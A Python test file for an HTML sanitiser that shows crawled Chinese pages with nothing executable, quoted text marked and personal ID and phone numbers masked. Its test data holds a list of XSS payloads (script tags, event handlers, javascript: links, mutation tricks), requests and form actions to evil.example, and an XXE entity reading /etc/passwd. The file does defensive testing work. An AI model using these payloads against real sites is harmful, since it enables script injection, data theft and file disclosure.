"""A crawled page is shown with all its words and nothing that acts; the quoted words are marked."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from auditor.evidence.view import inert, inert_fragment

STILL = (  # tags that do nothing by themselves
    "html head meta title body style p div span h1 h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote pre hr br table caption thead"
    " tbody tfoot tr td th section article header footer nav main aside center figure figcaption address fieldset legend"
    " b strong i em u s del ins sub sup code font small big mark"
).split()
ACTS = re.compile(
    rf"<(?!/?(?:{'|'.join(STILL)})\b)[a-z/]"
    r"|<[^>]*\s(?:on\w+|href|src|style|action|formaction|background|srcset|xlink:href|http-equiv)=",
    re.IGNORECASE,
)
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": '<p onclick="alert(1)" onmouseover=alert(2)>字</p>',
    "javascript": '<a href="javascript:alert(1)">字</a><a href=" java\tscript:alert(1)">字</a>',
    "svg": '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>字</text></a></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "css": "<style>@import url(http://evil.example/x); p{background:url(http://evil.example/y)}</style>"
    '<p style="background:url(http://evil.example/z)">字</p>',
    "link": '<link rel="stylesheet" href="http://evil.example/x.css"><link rel="prefetch" href="//evil.example/">',
    "base": '<base href="http://evil.example/"><a href="x">字</a>',
    "data": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe><img src="data:image/svg+xml;base64,AAAA">',
    "form": '<form action="http://evil.example/"><input name=p><button formaction="http://evil.example/">登录</button></form>',
    "tags": "<x-evil onclick=alert(1)>字</x-evil><embed src=x><object data=x></object><marquee onstart=alert(1)>字</marquee>",
    "picture": '<img src="http://evil.example/pixel.png" alt=\'"><script>alert(1)</script>\' onerror=alert(1)>',
    "malformed": '<p <b <a href="http://evil.example/" <img src=x onerror=alert(1)//<<script>alert(1)//<</script>',
    "title": "<title></p><script>alert(1)</script></title>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment": "<!--><img src=x onerror=alert(1)>--><!-- <p>藏着</p> -->",
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
}


def acts(html):
    """The first tag or attribute that does something; what stands in quotes is a value."""
    return ACTS.search(re.sub(r'"[^"]*"', '""', html))


@pytest.mark.parametrize("evil", HOSTILE.values(), ids=HOSTILE)
def test_nothing_of_a_hostile_page_acts(evil):
    shown = inert(
        f"<html><body><p>前</p>{evil}<p>关于供水的通知</p></body></html>".encode(), quote="供水的通知"
    )
    body = shown.partition("<body>")[2]
    assert not acts(body), body
    assert "<p>前</p>" in body
    assert "default-src 'none'" in shown.partition("<body>")[0]


@given(st.text(alphabet="<>\"'/=! &;#abonsrctyleimghdjv-\n:", max_size=300), st.booleans())
def test_whatever_the_markup_nothing_acts(markup, masked):
    assert not acts(inert_fragment(f"<html>{markup}".encode(), {}, "abc", masked=masked))


def test_the_quote_is_marked_over_tags_and_nothing_else_is_lost():
    page = "<html><table><tr><td>发布日期：</td><td>2026-<b>03</b>-01</td></tr></table><p>正文 &lt;甲&gt; &amp; 乙</p>"
    shown = inert_fragment(page.encode(), {}, "发布日期：2026-03-01")
    assert shown.count("<mark>") == 4
    assert re.sub(r"<[^>]*>", "", shown).replace("\n", "") == "发布日期：2026-03-01正文 &lt;甲&gt; &amp; 乙"
    assert "<td><mark>发布日期：</mark></td>" in shown


def test_a_quote_put_together_from_several_is_marked_in_pieces():
    shown = inert_fragment("<p>标题：甲办法</p><p>落款 乙局</p>".encode(), {}, "标题：甲办法；落款：乙局")
    assert shown.count("<mark>") == 2


def test_a_page_in_gbk_is_read_as_such():
    body = '<html><meta charset="gb2312"><p>政务公开</p>'.encode("gbk")
    assert "<mark>政务</mark>公开" in inert_fragment(body, {}, "政务")
    assert "政务公开" in inert_fragment(
        "<p>政务公开</p>".encode("gbk"), {"content-type": "text/html; charset=GBK"}
    )


def test_where_a_link_and_a_picture_lead_can_be_read_and_is_not_followed():
    shown = inert_fragment('<a href="http://a.example/x">附件</a><img alt="印章" src="/y.png">'.encode(), {})
    assert 'title="http://a.example/x">附件<' in shown
    assert "［图片：印章］" in shown and 'title="/y.png"' in shown


def test_personal_numbers_are_masked_be_they_parted_by_markup():
    page = '<html><p title="13812345678">手机 138<b>1234</b>5678</p><table><tr><td>370302</td><td>19900101123X</td></tr></table>'
    shown = inert_fragment(page.encode(), {}, "138****5678", masked=True)
    assert "1234" not in shown and "123X" not in shown
    assert "<mark>138****5678</mark>" in shown


def test_signs_that_deceive_the_eye_are_shown_not_obeyed():
    shown = inert_fragment("<p>甲\u202e乙\x1b丙</p>".encode(), {})
    assert "\u202e" not in shown and "\x1b" not in shown


@pytest.mark.parametrize(
    "page",
    [
        b"<div>" * 300_000,
        b"&" * 500_000,
        b"<" * 500_000,
        b"<script" * 100_000,
        b"<font>" * 499 + b"<p>x</font>" * 9_000,
    ],
)
def test_a_page_made_to_wear_out_the_reader_is_shown_all_the_same(page):
    assert "字<mark>在</mark>这里" in inert_fragment(
        b"<html><p>" + "字在这里".encode() + b"</p>" + page, {}, "在"
    )


def test_what_is_no_page_is_shown_as_text_or_named():
    assert '<p>{"标题": "甲"}</p>' in inert_fragment(
        '{"标题": "甲"}'.encode(), {"Content-Type": "application/json"}
    )
    assert "pdf 文件" in inert_fragment(b"%PDF-1.4", {})
    assert "没有内容" in inert_fragment(b"", {})


ROSTER = "<html><table><tr><td>姓名</td><td>身份证号码</td><td>金额</td></tr><tr><td>张大某</td><td>110101199003077571</td><td>300元</td></tr></table>"


@pytest.mark.parametrize(
    "quote", ["张大某 110101199003077571 300元", "张大某 11*************571 300元", "张大某"]
)
def test_a_quotation_with_a_name_is_marked_though_its_name_is_masked(quote):
    shown = inert_fragment(ROSTER.encode(), {}, quote, masked=True)
    assert "<mark>张**" in shown and shown.count("<mark>") == 1
    assert "大某" not in shown and "19900307" not in shown
